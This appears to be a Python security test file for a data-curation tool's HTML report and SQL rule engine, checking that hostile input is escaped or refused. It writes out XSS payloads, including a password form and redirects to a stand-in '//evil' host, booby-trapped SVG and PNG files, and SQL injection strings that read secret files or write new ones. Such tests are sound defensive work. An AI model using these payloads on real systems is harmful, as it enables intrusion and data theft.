"""What is shown and asked: markup in the report, files behind its pictures, rules that look beyond their row."""

from __future__ import annotations

import base64
import contextlib
import io
import json
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import duckdb
import jinja2
import markupsafe
import pyarrow as pa
from PIL import Image, PngImagePlugin

from hostile.attack import Attack, Outcome, patched
from nextloom.curation.decisions import distinct, select
from nextloom.curation.decisions.rule import Rule
from nextloom.curation.decisions.select import SelectWhere
from nextloom.errors import UserError
from nextloom.pipelines.report import album, curves, page
from nextloom.pipelines.report.album import Album

# ---- markup: texts of strangers in the page of the report

MARKUP = {
    "a script": "<script>steal()</script>",
    "an image that fails": "<img src=x onerror=steal()>",
    "an attribute that is closed": '"><svg onload=steal()>',
    "a link that runs": "<a href='javascript:steal()'>more</a>",
    "a page in the page": "<iframe src='data:text/html,<script>steal()</script>'></iframe>",
    "a style that hides": "</style><style>main{display:none}</style>",
    "a form that asks": "<form action='//evil'><input name=password></form>",
    "another place": "<base href='//evil'><meta http-equiv=refresh content='0;url=//evil'>",
}
OWN = {"script", "style", "base", "form", "iframe", "a", "img", "svg", "meta", "input"}


def _report(text: str) -> dict[str, Any]:
    """A report in which each text that is not our own is `text`."""
    row = {"slot": 0, "key": text, "caption": text, "picture": None}
    rule = {"rule": text, "fails": 1, "null": 0, "first": 1, "unique": 1, "after": 0}
    counts = {"rows": 2, "kept": 1, "rejected": 1, "failed": 0}
    topic = {"name": text, "before": 1, "after": 1, "share_before": 1, "share_after": 1, "subs": [], "more": 0}
    moved = {"sample": 1, "slots": [0], "parts": [text], "columns": [{"name": text}]}
    return {
        "dataset": "toy",
        "made": "now",
        "total": 2,
        "largest": 2,
        "priced": False,
        "steps": [
            {
                **{"name": "keep", "op": text, "state": "stale", "cause": text, "counts": counts, "warning": text},
                **{"per_cpu_second": None, "cpu_seconds": None, "waiting": None, "cost": None},
            }
        ],
        "changes": [
            {
                **{"name": "r", "base": "r-0001", "now": "now", "state": "", "before": 1, "after": 1, "same": 0},
                **{"out": [{"why": text, "count": 1}], "came": [], "columns": [text]},
                **{"out_rows": [row], "came_rows": []},
            }
        ],
        "selects": [
            {
                **{"step": "keep", "state": "fresh", "rules": [rule], "joint": [[1]], "overlap": False, "moved": None},
                **counts,
                "sheet": [{"title": text, "kept": False, "count": 1, "rows": [row]}],
                "survivors": [{"step": "d", "groups": 1, "one": 0, "several": 0, "none": 1, "lost": 1, "rows": [row]}],
                "topics": [{"by": text, "reads": True, "categories": [topic], "more": 0}],
            }
        ],
        "duplicates": [
            {
                **{"step": "d", "measure": "distance", "groups": 1, "copies": 1, "largest": 2, "spanning": 1},
                "across": [{"origins": [text, "b"], "groups": 1}],
                "shown": [
                    {
                        **{"group": 1, "size": 2, "origins": [text, "b"]},
                        "members": [{**row, "origin": text, "stays": True, "apart": None}],
                    }
                ],
            }
        ],
        "failures": [
            {
                **{"step": "keep", "stage": text, "type": text, "message": text, "count": 1, "examples": [text]},
                **{"detail": text, "inherited": False},
            }
        ],
        "runs": [
            {
                **{"name": text, "state": text, "values": {text: text}, "picture": None},
                "curves": curves.curves([{"step": 1, text: 2.0, "loss": 1.0}]),
            }
        ],
        "data": {"selects": [{"step": "keep", "moved": moved}], "pictures": {0: [text, "data:,"]}},
    }


class _Elements(HTMLParser):
    """(name, attributes) of every element, as a browser begins it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def _elements(report: dict[str, Any]) -> list[str]:
    parser = _Elements()
    parser.feed(page.render(report))
    parser.close()
    return sorted(f"{tag} {sorted(attributes)}" for tag, attributes in parser.found if tag in OWN)


def _only(place: str, payload: str) -> dict[str, Any]:
    """A report whose one foreign text is at `place`: a path of keys."""
    plain, hurtful = _report("plain"), _report(payload)
    *way, last = place.split(".")
    for name in way:
        at = int(name) if name.isdigit() else name
        plain, hurtful = plain[at], hurtful[at]  # pyrefly: ignore
    whole = _report("plain")
    target: Any = whole
    for name in way:
        target = target[int(name) if name.isdigit() else name]
    at = int(last) if last.isdigit() else last
    target[at] = hurtful[at]
    return whole


PLACES = {
    "a caption": "selects.0.sheet.0.rows.0.caption",
    "a key": "selects.0.sheet.0.rows.0.key",
    "a rule": "selects.0.sheet.0.title",
    "a reason": "selects.0.rules.0.rule",
    "a message": "failures.0.message",
    "a detail": "failures.0.detail",
    "an error's type": "failures.0.type",
    "a failed key": "failures.0.examples",
    "a class": "selects.0.topics.0.categories.0.name",
    "a top folder": "duplicates.0.shown.0.members.0.origin",
    "a cause": "steps.0.cause",
    "a warning": "steps.0.warning",
    "why a row left": "changes.0.out",
    "a figure's name": "runs.0.curves",
    "a figure's value": "runs.0.values",
    "a run's name": "runs.0.name",
    "a copy's key": "duplicates.0.shown.0.members.0.key",
}


def _marked_up(place: str, payload: str) -> Callable[[Path], Outcome]:
    def strike(_: Path) -> Outcome:
        more = len(_elements(_only(place, payload))) - len(_elements(_report("plain")))
        return Outcome(more != 0, "shown as text" if not more else f"{more} elements of a stranger")

    return strike


def _unescaped() -> AbstractContextManager:
    real = jinja2.Environment
    return patched(jinja2, "Environment", lambda **options: real(**{**options, "autoescape": False}))


def _in_the_data(payload: str) -> Callable[[Path], Outcome]:
    """The JSON that the page's script reads stands in a script element, which a key must not end."""

    def strike(_: Path) -> Outcome:
        report = _report("plain")
        report["data"] = _report(payload)["data"]
        text = page.render(report)
        ended = text.count("</script") != page.render(_report("plain")).count("</script") or "<!--" in text
        return Outcome(ended, "a string of the data")

    return strike


def _plain_json() -> AbstractContextManager:
    return patched(jinja2.filters, "htmlsafe_json_dumps", lambda value, **_: markupsafe.Markup(json.dumps(value)))


NAMES, ATTRIBUTE = list(MARKUP), "an attribute that is closed"
REPORT = [
    *(
        Attack("report", f"{name} in {place}", "shown as text", _marked_up(where, MARKUP[name]), _unescaped)
        for number, (place, where) in enumerate(PLACES.items())
        for name in (ATTRIBUTE if "key" in place and "failed" not in place else NAMES[number % len(NAMES)],)
    ),
    *(
        Attack("report", f"{name} in the script's data", "a string of the data", _in_the_data(payload), _plain_json)
        for name, payload in {
            "the end of the script": "</script><script>steal()</script>",
            "its end in capitals": "</SCRIPT ><img src=x onerror=steal()>".lower(),
            "a comment that swallows it": "<!--<script>",
        }.items()
    ),
]

# ---- pictures: what a file carries beside what it shows

MARK = b"STEAL-ME-FROM-THIS-PAGE"


def _png(**save: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, "PNG", **save)
    return buffer.getvalue()


def _with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", MARK.decode())
    return _png(pnginfo=info)


def _with_place() -> bytes:
    buffer, exif = io.BytesIO(), Image.Exif()
    exif[0x010E] = MARK.decode()  # ImageDescription; GPS and serial numbers lie in the same block
    Image.new("RGB", (8, 8), "red").save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


FILES = {
    "an SVG with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + MARK + b"</script></svg>",
    "an SVG that loads a picture": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://e/'
    + MARK
    + b'"/></svg>',
    "a page that is named as a picture": b"<!doctype html><script>" + MARK + b"</script>",
    "a PNG with a script behind it": _png() + b"<script>" + MARK + b"</script>",
    "a PNG with a text inside": _with_text(),
    "a JPEG with its photographer's place": _with_place(),
}


def _carried(raw: bytes) -> Callable[[Path], Outcome]:
    def strike(_: Path) -> Outcome:
        try:
            uri = album.picture(raw)
        except Exception as error:
            return Outcome(False, f"no picture: {type(error).__name__}")
        kind, _, data = uri.partition(";base64,")
        return Outcome(MARK in base64.b64decode(data) or kind != "data:image/webp", "no picture: only its pixels")

    return strike


def _as_it_is(raw: bytes, _: int = 0) -> str:
    return f"data:image/svg+xml;base64,{base64.b64encode(raw).decode()}"


PICTURES = [
    Attack(
        "report",
        f"{name} on the contact sheet",
        "no picture",
        _carried(raw),
        lambda: patched(album, "picture", _as_it_is),
    )
    for name, raw in FILES.items()
]

# ---- length and reading order: what a caption does to the page around it

LONG = {
    "a caption of 8 MB": ("caption", "x" * 8_000_000),
    "a key of 8 MB": ("key", "k" * 8_000_000),
    "a caption that reads backwards": ("caption", "cat \u202egpj.exe"),
    "a caption that leaves the line": ("caption", "cat \u2067\u2067\u2067 dog"),
    "a key with what nobody sees": ("key", "a\u200bdmin\U000e0041.png"),
    "a caption of controls": ("caption", "cat\x1b]0;x\x07\x9b31m"),
}
HIDDEN = "\u202e\u2067\u200b\U000e0041\x1b\x07\x9b"


def _captioned(field: str, text: str) -> Callable[[Path], Outcome]:
    def strike(_: Path) -> Outcome:
        made = Album(SimpleNamespace())  # pyrefly: ignore
        made._rows[0] = {"key": "k", "caption": "c", field: text}
        (row,) = made.shown([0])
        told = row[field]
        return Outcome(len(told) > 1000 or any(c in told for c in HIDDEN), "cut and spelled out")

    return strike


LENGTHS = [
    Attack(
        "report",
        f"{name} on the contact sheet",
        "cut and spelled out",
        _captioned(field, text),
        lambda: patched(album, "_cut", lambda whole, _: whole),
    )
    for name, (field, text) in LONG.items()
]

# ---- rules: SQL of a stranger that looks beyond its row, writes, or talks to the machine

TABLE = pa.table({"id": pa.array([0], pa.int64()), "x": [1], "g": [0]})
SECRET = "the-secret"


def _unread(sql: str) -> Rule:
    """A rule that nobody took apart."""
    return Rule((("a", "x"),), (sql,))


@contextlib.contextmanager
def _no_parser() -> Iterator[None]:
    with patched(select, "parse", _unread), patched(distinct, "parse", _unread):
        yield


def _no_lock() -> AbstractContextManager:
    return patched(select, "connect", lambda threads=1: duckdb.connect(":memory:"))


READS = {
    "read_text": "(select count(*) from read_text('{file}') where content like '%{secret}%') > 0",
    "read_csv": "(select count(*) from read_csv('{file}', header=false) where column0 like '%{secret}%') > 0",
    "read_blob": "(select max(size) from read_blob('{file}')) > 0",
    "a table by its path": "(select count(*) from '{file}') > 0",
    "glob": "(select count(*) from glob('{folder}/*')) > 0",
    "sniff_csv": "exists (from sniff_csv('{file}'))",
    "query()": "(select count(*) from query('select * from read_text(''{file}'')')) > 0",
    "in a list": "1 in (select 1 from read_text('{file}') where content like '%{secret}%')",
    "in a case": "case when a.x = 1 then (select bool_or(content like '%{secret}%') from read_text('{file}')) end",
}
AFTER = "true) AS r0 FROM a; {statement}; SELECT a.id AS id, NULL::VARCHAR AS failed, (true"
WRITES = {
    "copy to": "COPY (SELECT 42) TO '{made}'",
    "export database": "EXPORT DATABASE '{made}'",
    "attach": "ATTACH '{made}' AS other; CREATE TABLE other.t AS SELECT 1; CHECKPOINT other",
    "copy of another kind": "COPY (SELECT 42 AS x) TO '{made}' (FORMAT parquet)",
    "copy after set": "SET threads = 1; COPY (SELECT 42) TO '{made}'",
    "a log": "PRAGMA enable_profiling='json'; PRAGMA profiling_output='{made}'; SELECT 1",
}


def _asked(where: str, around: Callable[[], AbstractContextManager], **fields: Any) -> Callable[[Path], Outcome]:
    """Decide by a rule; it succeeds where the row is kept for what a file says, or where a file was made."""

    def strike(folder: Path) -> Outcome:
        (folder / "s.csv").write_text(SECRET + "\n" + SECRET + "\n")
        made = folder / "made.json"
        names = {"file": folder / "s.csv", "folder": folder, "made": made, "secret": SECRET}
        writes = "{made}" in where or any("{made}" in text for text in fields.values())
        told = {name: text.format(**names) for name, text in fields.items()}
        try:
            with around():
                verdicts = SelectWhere(where=where.format(**names), **told).decide({"a": TABLE})
        except (UserError, ValueError) as error:
            return Outcome(made.exists(), f"refused: {str(error).splitlines()[0][:80]}")
        return Outcome(made.exists() if writes else verdicts["verdict"].to_pylist() == ["kept"], "decided")

    return strike


def _both() -> AbstractContextManager:
    stack = ExitStack()
    stack.enter_context(_no_parser())
    stack.enter_context(_no_lock())
    return stack


SQL = {f"a rule that reads a file: {name}": f"a.x = 1 and {sql}" for name, sql in READS.items()} | {
    f"a rule that writes: {name}": AFTER.format(statement=sql) for name, sql in WRITES.items()
}
RULES = [
    attack
    for name, sql in SQL.items()
    for attack in (
        Attack("rules", f"{name}, past an open database", "refused", _asked(sql, _no_lock), _no_parser),
        Attack("rules", f"{name}, past the parser", "refused", _asked(sql, _no_parser), _no_lock),
    )
]
BEST = (
    "a.x) AS b0, NULL::HUGEINT AS area FROM a; COPY (SELECT 42) TO '{made}'; "
    "SELECT a.id AS id, NULL AS failed, true AS r0, a.g AS g0, (a.x"
)
RULES += [
    Attack(
        "rules",
        "`best` that writes a file",
        "refused",
        _asked("a.x = 1", contextlib.nullcontext, distinct="a.g", best=BEST),
        _both,
    ),
    Attack(
        "rules",
        "`best` that writes a file, past the parser",
        "refused",
        _asked("a.x = 1", _no_parser, distinct="a.g", best=BEST),
        _no_lock,
    ),
]


def _variable(folder: Path) -> Outcome:
    """DuckDB reads variables of the Python that calls it, as tables."""
    frame = TABLE  # noqa: F841
    try:
        found = select.connect().execute("SELECT count(*) FROM frame").fetchone()
    except duckdb.Error as error:
        return Outcome(False, f"refused: {str(error).splitlines()[0]}")
    return Outcome(found == (1,), "read")


RULES.append(Attack("rules", "a table that is a variable of the worker", "refused", _variable, _no_lock))

ATTACKS = [*REPORT, *PICTURES, *LENGTHS, *RULES]
